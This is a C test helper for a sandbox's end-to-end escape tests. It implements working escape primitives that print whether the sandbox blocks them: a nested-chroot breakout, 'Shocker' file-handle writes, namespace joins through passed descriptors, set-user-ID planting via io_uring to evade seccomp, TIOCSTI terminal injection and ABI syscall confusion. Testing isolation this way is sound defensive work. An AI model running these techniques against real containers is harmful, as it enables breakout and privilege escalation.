/* escape_helper: attacks that need raw system calls, for tests/e2e/escapes.sh.
 *
 * Built at test time with `gcc -static` so that it also runs inside a minimal
 * root= tree with nothing but busybox. Each command prints one line: "OK" (or
 * what was found) when the call succeeded, the errno name when it failed. A
 * process killed by seccomp (action = kill) prints nothing and dies of SIGSYS.
 *
 *   escape_helper chroot-escape MARKER   nested chroot + chdir(".."): is MARKER reachable?
 *   escape_helper native|x32|i386 getpid
 *   escape_helper native|x32|i386 flock FILE
 *
 * File handles (Shocker):
 *   escape_helper handle-save PATH OUT        (outside) store PATH's handle in OUT
 *   escape_helper handle-open HANDLE DIR ro|rw  open_by_handle_at through DIR's mount; HANDLE
 *                                             is a file from handle-save, or @PATH to take it
 *                                             here; rw writes "pwned" at the start
 * Namespaces:
 *   escape_helper setns PATH TYPE             setns(open(PATH), TYPE) (TYPE: user, mnt, ..., 0)
 *   escape_helper fd-serve SOCKET PATH        (outside) hand open(PATH) to each connection on
 *                                             the unix socket SOCKET (SCM_RIGHTS)
 *   escape_helper setns-recv SOCKET TYPE      setns into the descriptor received from SOCKET
 *   escape_helper unshare|clone TYPE          a new namespace of TYPE
 *   escape_helper clone3                      clone3 without flags (libc falls back on ENOSYS)
 *   escape_helper raw NR                      syscall NR with arguments -1, 0, 0, 0, 0
 * Set-user-ID planting (each leaves PATH behind on success):
 *   escape_helper suid chmod|fchmod|fchmodat|fchmodat2|creat|open|openat|openat2|mkdir|
 *                      mknod|tmpfile PATH MODE
 *   escape_helper uring openat|mkdirat PATH MODE   the same request through io_uring, which no
 *                                             seccomp argument rule sees (prints "setup:ERRNO"
 *                                             when the ring cannot be set up)
 * Terminals:
 *   escape_helper ioctl FD HEX [TEXT]         ioctl(FD, HEX, 0), HEX a full 64-bit request; with
 *                                             TEXT, ioctl(FD, HEX, &c) for each byte of TEXT and
 *                                             a newline (TIOCSTI)
 * Personality, scheduling, keyrings:
 *   escape_helper personality HEX
 *   escape_helper sched fifo|rr|other|batch|idle
 *   escape_helper key-add DESC DATA           (outside) prints the serial
 *   escape_helper key-read DESC               search uid 0's user keyring, read the key
 *   escape_helper key-unlink SERIAL           (outside)
 * PID namespace:
 *   escape_helper pid1-look                   at once, what PID 1 holds: "caps=CapEff
 *                                             nnp=NoNewPrivs fds=N" (N: its descriptors, or
 *                                             the errno name when /proc/1/fd cannot be read)
 *   escape_helper handle-write FILE MOUNT_DIR   reopen FILE by its handle through the mount of
 *                                               MOUNT_DIR (open_by_handle_at) and append to it
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/personality.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define X32_SYSCALL_BIT 0x40000000L
/* The same calls under the other ABIs' numbers (arch/x86/entry/syscalls). */
#define X32_GETPID 39
#define X32_FLOCK 73
#define I386_GETPID 20
#define I386_FLOCK 143

static int report(long ret, int err) {
  if (ret >= 0) {
    printf("OK\n");
    return 0;
  }
  printf("%s\n", strerrorname_np(err) ? strerrorname_np(err) : "?");
  return 1;
}

/* int $0x80 from 64-bit code: the i386 entry point, i386 numbers, 32-bit arguments. */
static long i386_syscall(long nr, long a, long b) {
  long ret;
  __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b) : "memory");
  return ret;
}

/* A call by number with up to six 64-bit arguments (strtoull, base 0: "0x1_0000_0001" as
 * 0x100000001), so that the filter sees exactly the register values given: the upper halves,
 * x32's bit in the number, -1. */
static int sys_call(int argc, char** argv) {
  unsigned long long a[6] = {0};
  for (int i = 0; i < 6 && 3 + i < argc; ++i) a[i] = strtoull(argv[3 + i], NULL, 0);
  long nr = (long)strtoull(argv[2], NULL, 0);
  long r = syscall(nr, a[0], a[1], a[2], a[3], a[4], a[5]);
  return report(r, errno);
}

/* The same through int $0x80 (AUDIT_ARCH_I386, i386 numbers, three 32-bit arguments). */
static int i386_sys_call(int argc, char** argv) {
  long a[3] = {0};
  for (int i = 0; i < 3 && 3 + i < argc; ++i) a[i] = (long)strtoul(argv[3 + i], NULL, 0);
  long ret, nr = strtol(argv[2], NULL, 0);
  __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a[0]), "c"(a[1]), "d"(a[2]) : "memory");
  int r32 = (int)ret;
  return r32 < 0 && r32 > -4096 ? report(-1, -r32) : report(0, 0);
}

static int abi_call(const char* abi, const char* call, const char* file) {
  int fd = -1;
  if (strcmp(call, "flock") == 0) {
    if (!file) return 2;
    fd = open(file, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return report(-1, errno);
  } else if (strcmp(call, "getpid") != 0) {
    return 2;
  }
  const int is_flock = fd >= 0;
  if (strcmp(abi, "native") == 0) {
    long r = is_flock ? syscall(SYS_flock, fd, LOCK_SH) : syscall(SYS_getpid);
    return report(r, errno);
  }
  if (strcmp(abi, "x32") == 0) {
    long nr = X32_SYSCALL_BIT | (is_flock ? X32_FLOCK : X32_GETPID);
    long r = is_flock ? syscall(nr, fd, LOCK_SH) : syscall(nr);
    return report(r, errno);
  }
  if (strcmp(abi, "i386") == 0) {
    long r = is_flock ? i386_syscall(I386_FLOCK, fd, LOCK_SH) : i386_syscall(I386_GETPID, 0, 0);
    /* The raw entry returns -errno in eax (32-bit). */
    int r32 = (int)r;
    return r32 < 0 ? report(-1, -r32) : report(0, 0);
  }
  return 2;
}

/* The classic escape from chroot(2) (man 2 chroot): chroot into a subdirectory without
 * entering it, so the cwd is outside the new root, climb with "..", chroot there. After a
 * pivot_root with the old root detached, there is nothing above "/" to climb to. */
static int chroot_escape(const char* marker) {
  if (mkdir("/tmp/jh-escape", 0755) != 0 && errno != EEXIST) return report(-1, errno);
  if (chdir("/") != 0) return report(-1, errno);
  if (chroot("/tmp/jh-escape") != 0) {
    printf("chroot:%s\n", strerrorname_np(errno));
    return 1;
  }
  for (int i = 0; i < 256; ++i)
    if (chdir("..") != 0) break;
  if (chroot(".") != 0) {
    printf("chroot2:%s\n", strerrorname_np(errno));
    return 1;
  }
  struct stat st;
  printf(stat(marker, &st) == 0 ? "escaped\n" : "contained\n");
  return 0;
}

/* Reports a call's result: errno is read after the call, never before. */
static int rep(long ret) { return report(ret, errno); }

/* ---- file handles */

union handle_buf {
  struct file_handle h;
  unsigned char bytes[sizeof(struct file_handle) + MAX_HANDLE_SZ];
};

static int take_handle(const char* path, union handle_buf* fh) {
  int mount_id;
  memset(fh, 0, sizeof *fh);
  fh->h.handle_bytes = MAX_HANDLE_SZ;
  return name_to_handle_at(AT_FDCWD, path, &fh->h, &mount_id, 0);
}

static int handle_save(const char* path, const char* out) {
  union handle_buf fh;
  if (take_handle(path, &fh) != 0) return report(-1, errno);
  FILE* f = fopen(out, "w");
  if (!f) return report(-1, errno);
  fwrite(&fh, 1, sizeof(struct file_handle) + fh.h.handle_bytes, f);
  fclose(f);
  printf("OK\n");
  return 0;
}

static int handle_open(const char* handle, const char* dir, const char* how) {
  union handle_buf fh;
  if (handle[0] == '@') {
    if (take_handle(handle + 1, &fh) != 0) {
      printf("name_to_handle_at:%s\n", strerrorname_np(errno));
      return 1;
    }
  } else {
    FILE* f = fopen(handle, "r");
    if (!f) return report(-1, errno);
    memset(&fh, 0, sizeof fh);
    size_t n = fread(&fh, 1, sizeof fh, f);
    fclose(f);
    if (n < sizeof(struct file_handle)) return 2;
  }
  int mount_fd = open(dir, O_RDONLY | O_DIRECTORY);
  if (mount_fd < 0) return report(-1, errno);
  int rw = strcmp(how, "rw") == 0;
  int fd = (int)syscall(SYS_open_by_handle_at, mount_fd, &fh.h, rw ? O_RDWR : O_RDONLY);
  if (fd < 0) return report(-1, errno);
  if (rw && pwrite(fd, "pwned", 5, 0) != 5) {
    printf("opened, write:%s\n", strerrorname_np(errno));
    return 1;
  }
  char buf[64] = {0};
  ssize_t n = pread(fd, buf, sizeof buf - 1, 0);
  if (n > 0 && buf[n - 1] == '\n') buf[n - 1] = 0;
  printf("OK:%s\n", n >= 0 ? buf : "?");
  return 0;
}

/* ---- namespaces */

static long ns_flag(const char* type) {
  static const struct {
    const char* name;
    long flag;
  } types[] = {{"user", CLONE_NEWUSER}, {"mnt", CLONE_NEWNS},       {"pid", CLONE_NEWPID},
               {"net", CLONE_NEWNET},   {"ipc", CLONE_NEWIPC},      {"uts", CLONE_NEWUTS},
               {"cgroup", CLONE_NEWCGROUP}, {"time", CLONE_NEWTIME}, {"0", 0}};
  for (size_t i = 0; i < sizeof types / sizeof types[0]; ++i)
    if (strcmp(types[i].name, type) == 0) return types[i].flag;
  return -1;
}

static int wait_child(long pid) {
  if (pid < 0) return report(-1, errno);
  if (pid == 0) _exit(0);
  waitpid((pid_t)pid, NULL, 0);
  return report(0, 0);
}

static int ns_call(const char* call, const char* type, const char* path) {
  long flag = ns_flag(type);
  if (flag < 0) return 2;
  if (strcmp(call, "setns") == 0) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) return report(-1, errno);
    return rep(setns(fd, (int)flag));
  }
  if (strcmp(call, "unshare") == 0) return rep(unshare((int)flag));
  if (strcmp(call, "clone") == 0) {
    fflush(stdout);
    return wait_child(syscall(SYS_clone, flag | SIGCHLD, 0, 0, 0, 0));
  }
  return 2;
}

/* A colluding host process hands a namespace descriptor to the sandbox over a unix socket. */
static int unix_socket(const char* path, struct sockaddr_un* addr) {
  memset(addr, 0, sizeof *addr);
  addr->sun_family = AF_UNIX;
  snprintf(addr->sun_path, sizeof addr->sun_path, "%s", path);
  return socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
}

static int fd_serve(const char* sock_path, const char* path) {
  struct sockaddr_un addr;
  int s = unix_socket(sock_path, &addr);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (s < 0 || fd < 0 || bind(s, (struct sockaddr*)&addr, sizeof addr) != 0 || listen(s, 8) != 0)
    return report(-1, errno);
  for (;;) {
    int c = accept(s, NULL, NULL);
    if (c < 0) continue;
    char byte = 'n', control[CMSG_SPACE(sizeof(int))];
    struct iovec iov = {.iov_base = &byte, .iov_len = 1};
    struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control,
                         .msg_controllen = sizeof control};
    struct cmsghdr* cm = CMSG_FIRSTHDR(&msg);
    cm->cmsg_level = SOL_SOCKET;
    cm->cmsg_type = SCM_RIGHTS;
    cm->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(cm), &fd, sizeof fd);
    sendmsg(c, &msg, 0);
    close(c);
  }
}

static int setns_recv(const char* sock_path, const char* type) {
  long flag = ns_flag(type);
  struct sockaddr_un addr;
  int s = unix_socket(sock_path, &addr);
  if (flag < 0) return 2;
  if (s < 0 || connect(s, (struct sockaddr*)&addr, sizeof addr) != 0) return report(-1, errno);
  char byte, control[CMSG_SPACE(sizeof(int))];
  struct iovec iov = {.iov_base = &byte, .iov_len = 1};
  struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control,
                       .msg_controllen = sizeof control};
  if (recvmsg(s, &msg, 0) != 1) return report(-1, errno);
  struct cmsghdr* cm = CMSG_FIRSTHDR(&msg);
  if (!cm || cm->cmsg_type != SCM_RIGHTS) return 2;
  int fd;
  memcpy(&fd, CMSG_DATA(cm), sizeof fd);
  return rep(setns(fd, (int)flag));
}

static int clone3_call(void) {
  struct clone_args args;
  memset(&args, 0, sizeof args);
  args.exit_signal = SIGCHLD;
  fflush(stdout);
  return wait_child(syscall(SYS_clone3, &args, sizeof args));
}

/* ---- set-user-ID planting */

static int suid_call(const char* how, const char* path, const char* mode_text) {
  mode_t mode = (mode_t)strtoul(mode_text, NULL, 8);
  umask(0);
  long r;
  int fd;
  if (strcmp(how, "creat") == 0) return rep(creat(path, mode));
  if (strcmp(how, "open") == 0)
    return rep(syscall(SYS_open, path, O_WRONLY | O_CREAT | O_EXCL, mode));
  if (strcmp(how, "openat") == 0)
    return rep(openat(AT_FDCWD, path, O_WRONLY | O_CREAT | O_EXCL, mode));
  if (strcmp(how, "openat2") == 0) {
    struct {
      uint64_t flags, mode, resolve;
    } how2 = {O_WRONLY | O_CREAT | O_EXCL, mode, 0};
    return rep(syscall(SYS_openat2, AT_FDCWD, path, &how2, sizeof how2));
  }
  if (strcmp(how, "mkdir") == 0) return rep(mkdir(path, mode));
  if (strcmp(how, "mknod") == 0) return rep(mknod(path, S_IFREG | mode, 0));
  if (strcmp(how, "tmpfile") == 0) {
    /* A nameless file in PATH's directory, linked in as PATH once it has the mode. */
    char dir[4096];
    snprintf(dir, sizeof dir, "%s", path);
    char* slash = strrchr(dir, '/');
    if (!slash) return 2;
    *slash = 0;
    fd = open(dir, O_TMPFILE | O_WRONLY, mode);
    if (fd < 0) return report(-1, errno);
    char proc[64];
    snprintf(proc, sizeof proc, "/proc/self/fd/%d", fd);
    return rep(linkat(AT_FDCWD, proc, AT_FDCWD, path, AT_SYMLINK_FOLLOW));
  }
  /* The chmod family on a file created without the bits. */
  fd = open(path, O_WRONLY | O_CREAT, 0755);
  if (fd < 0) return report(-1, errno);
  if (strcmp(how, "chmod") == 0)
    r = chmod(path, mode);
  else if (strcmp(how, "fchmod") == 0)
    r = fchmod(fd, mode);
  else if (strcmp(how, "fchmodat") == 0)
    r = syscall(SYS_fchmodat, AT_FDCWD, path, mode);
  else if (strcmp(how, "fchmodat2") == 0)
    r = syscall(452, AT_FDCWD, path, mode, 0); /* fchmodat2, the same number everywhere */
  else
    return 2;
  return rep(r);
}

/* IORING_OP_OPENAT or IORING_OP_MKDIRAT with MODE: the kernel's workers make the call, so the
 * filter never sees its mode argument. */
static int uring_call(const char* op, const char* path, const char* mode_text) {
  struct io_uring_params p;
  memset(&p, 0, sizeof p);
  int fd = (int)syscall(SYS_io_uring_setup, 4, &p);
  if (fd < 0) {
    printf("setup:%s\n", strerrorname_np(errno));
    return 1;
  }
  char* sq = mmap(NULL, p.sq_off.array + p.sq_entries * sizeof(unsigned), PROT_READ | PROT_WRITE,
                  MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQ_RING);
  char* cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe),
                  PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_CQ_RING);
  struct io_uring_sqe* sqe = mmap(NULL, p.sq_entries * sizeof *sqe, PROT_READ | PROT_WRITE,
                                  MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQES);
  if (sq == MAP_FAILED || cq == MAP_FAILED || sqe == MAP_FAILED) return report(-1, errno);
  memset(sqe, 0, sizeof *sqe);
  umask(0);
  sqe->opcode = strcmp(op, "mkdirat") == 0 ? IORING_OP_MKDIRAT : IORING_OP_OPENAT;
  sqe->fd = AT_FDCWD;
  sqe->addr = (unsigned long)path;
  sqe->len = (unsigned)strtoul(mode_text, NULL, 8);
  if (sqe->opcode == IORING_OP_OPENAT) sqe->open_flags = O_CREAT | O_WRONLY | O_EXCL;
  unsigned* tail = (unsigned*)(sq + p.sq_off.tail);
  unsigned mask = *(unsigned*)(sq + p.sq_off.ring_mask);
  ((unsigned*)(sq + p.sq_off.array))[*tail & mask] = 0;
  __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
  if (syscall(SYS_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) {
    printf("enter:%s\n", strerrorname_np(errno));
    return 1;
  }
  unsigned head = *(unsigned*)(cq + p.cq_off.head) & *(unsigned*)(cq + p.cq_off.ring_mask);
  struct io_uring_cqe* c = (struct io_uring_cqe*)(cq + p.cq_off.cqes) + head;
  return c->res < 0 ? report(-1, -c->res) : report(0, 0);
}

/* ---- terminals */

static int ioctl_call(const char* fd_text, const char* request_text, const char* text) {
  long fd = atol(fd_text);
  unsigned long request = strtoul(request_text, NULL, 16);
  if (!text) return rep(syscall(SYS_ioctl, fd, request, 0L));
  char line[4096];
  snprintf(line, sizeof line, "%s\n", text);
  for (const char* c = line; *c; ++c)
    if (syscall(SYS_ioctl, fd, request, c) != 0) return report(-1, errno);
  return report(0, 0);
}

/* ---- personality, scheduling, keyrings */

static int sched_call(const char* name) {
  int policy = strcmp(name, "fifo") == 0    ? SCHED_FIFO
               : strcmp(name, "rr") == 0    ? SCHED_RR
               : strcmp(name, "batch") == 0 ? SCHED_BATCH
               : strcmp(name, "idle") == 0  ? SCHED_IDLE
                                            : SCHED_OTHER;
  struct sched_param sp = {.sched_priority = (policy == SCHED_FIFO || policy == SCHED_RR)};
  return rep(sched_setscheduler(0, policy, &sp));
}

static int key_call(int argc, char** argv) {
  if (strcmp(argv[1], "key-add") == 0 && argc == 4) {
    long serial = syscall(SYS_add_key, "user", argv[2], argv[3], strlen(argv[3]),
                          KEY_SPEC_USER_KEYRING);
    if (serial < 0) return report(-1, errno);
    printf("%ld\n", serial);
    return 0;
  }
  if (strcmp(argv[1], "key-read") == 0 && argc == 3) {
    long serial = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", argv[2], 0);
    if (serial < 0) return report(-1, errno);
    char buf[256] = {0};
    long n = syscall(SYS_keyctl, KEYCTL_READ, serial, buf, sizeof buf - 1);
    if (n < 0) return report(-1, errno);
    printf("OK:%s\n", buf);
    return 0;
  }
  if (strcmp(argv[1], "key-unlink") == 0 && argc == 3)
    return rep(syscall(SYS_keyctl, KEYCTL_UNLINK, atol(argv[2]), KEY_SPEC_USER_KEYRING));
  return 2;
}

/* "Shocker": a handle names the inode, and open_by_handle_at() opens it through whatever mount
 * of the same file system the caller passes, so a read-only bind of FILE's tree does not stop
 * the write when MOUNT_DIR lies on a writable mount. Needs CAP_DAC_READ_SEARCH. */
static int handle_write(const char* file, const char* mount_dir) {
  struct file_handle* fh = malloc(sizeof *fh + MAX_HANDLE_SZ);
  if (!fh) return 2;
  fh->handle_bytes = MAX_HANDLE_SZ;
  int mount_id;
  if (name_to_handle_at(AT_FDCWD, file, fh, &mount_id, 0) != 0) {
    printf("name_to_handle_at:%s\n", strerrorname_np(errno));
    return 1;
  }
  int mfd = open(mount_dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (mfd < 0) return report(-1, errno);
  int fd = open_by_handle_at(mfd, fh, O_WRONLY | O_APPEND | O_CLOEXEC);
  if (fd < 0) {
    printf("open_by_handle_at:%s\n", strerrorname_np(errno));
    return 1;
  }
  static const char line[] = "written through a file handle\n";
  return report(write(fd, line, sizeof line - 1), errno);
}

static int pid1_look(void) {
  char status[8192];
  int fd = open("/proc/1/status", O_RDONLY | O_CLOEXEC);
  ssize_t n = fd < 0 ? -1 : read(fd, status, sizeof status - 1);
  if (n < 0) return report(-1, errno);
  status[n] = '\0';
  close(fd);
  const char* caps = strstr(status, "CapEff:\t");
  const char* nnp = strstr(status, "NoNewPrivs:\t");
  printf("caps=%.16s nnp=%.1s ", caps ? caps + 8 : "?", nnp ? nnp + 12 : "?");
  DIR* d = opendir("/proc/1/fd");
  if (!d) return printf("fds=%s\n", strerrorname_np(errno)), 0;
  int count = 0;
  for (struct dirent* e; (e = readdir(d)) != NULL;) count += e->d_name[0] != '.';
  closedir(d);
  printf("fds=%d\n", count);
  return 0;
}

int main(int argc, char** argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  if (argc == 3 && strcmp(argv[1], "chroot-escape") == 0) return chroot_escape(argv[2]);
  if (argc == 4 && strcmp(argv[1], "handle-save") == 0) return handle_save(argv[2], argv[3]);
  if (argc == 5 && strcmp(argv[1], "handle-open") == 0)
    return handle_open(argv[2], argv[3], argv[4]);
  if (argc == 4 && strcmp(argv[1], "setns") == 0) return ns_call("setns", argv[3], argv[2]);
  if (argc == 4 && strcmp(argv[1], "fd-serve") == 0) return fd_serve(argv[2], argv[3]);
  if (argc == 4 && strcmp(argv[1], "setns-recv") == 0) return setns_recv(argv[2], argv[3]);
  if (argc == 3 && (strcmp(argv[1], "unshare") == 0 || strcmp(argv[1], "clone") == 0))
    return ns_call(argv[1], argv[2], NULL);
  if (argc == 2 && strcmp(argv[1], "clone3") == 0) return clone3_call();
  if (argc == 2 && strcmp(argv[1], "pid1-look") == 0) return pid1_look();
  if (argc >= 3 && argc <= 9 && strcmp(argv[1], "sys") == 0) return sys_call(argc, argv);
  if (argc >= 3 && argc <= 6 && strcmp(argv[1], "i386sys") == 0) return i386_sys_call(argc, argv);
  if (argc == 3 && strcmp(argv[1], "raw") == 0)
    return rep(syscall(atol(argv[2]), -1L, 0L, 0L, 0L, 0L));
  if (argc == 5 && strcmp(argv[1], "suid") == 0) return suid_call(argv[2], argv[3], argv[4]);
  if (argc == 5 && strcmp(argv[1], "uring") == 0) return uring_call(argv[2], argv[3], argv[4]);
  if ((argc == 4 || argc == 5) && strcmp(argv[1], "ioctl") == 0)
    return ioctl_call(argv[2], argv[3], argc == 5 ? argv[4] : NULL);
  if (argc == 3 && strcmp(argv[1], "personality") == 0)
    return rep(personality(strtoul(argv[2], NULL, 16)));
  if (argc == 3 && strcmp(argv[1], "sched") == 0) return sched_call(argv[2]);
  if (argc >= 3 && strncmp(argv[1], "key-", 4) == 0) return key_call(argc, argv);
  if (argc == 4 && strcmp(argv[1], "handle-write") == 0) return handle_write(argv[2], argv[3]);
  if (argc >= 3) return abi_call(argv[1], argv[2], argc > 3 ? argv[3] : NULL);
  fprintf(stderr, "usage: escape_helper chroot-escape MARKER | native|x32|i386 getpid|flock [FILE]\n");
  return 2;
}
